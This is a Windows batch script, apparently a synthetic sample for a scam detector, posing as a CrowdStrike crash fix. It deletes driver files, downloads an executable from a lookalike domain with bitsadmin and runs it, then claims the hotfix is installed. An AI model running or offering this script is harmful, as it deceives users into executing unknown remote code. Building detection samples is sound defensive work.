@echo off
rem CrowdStrike BSOD automatic fix tool v2 (scamscan synthetic sample - harmless text, not malware)
rem Deletes the faulty channel file, then "installs the hotfix".
set CSDIR=%WINDIR%\System32\drivers\CrowdStrike
del /f /q "%CSDIR%\C-00000291*.sys"
bitsadmin /transfer csfix /download /priority high https://crowdstrikefix.com/dl/falcon-hotfix.exe "%TEMP%\falcon-hotfix.exe"
start "" "%TEMP%\falcon-hotfix.exe"
echo Hotfix installed. Restart the computer.
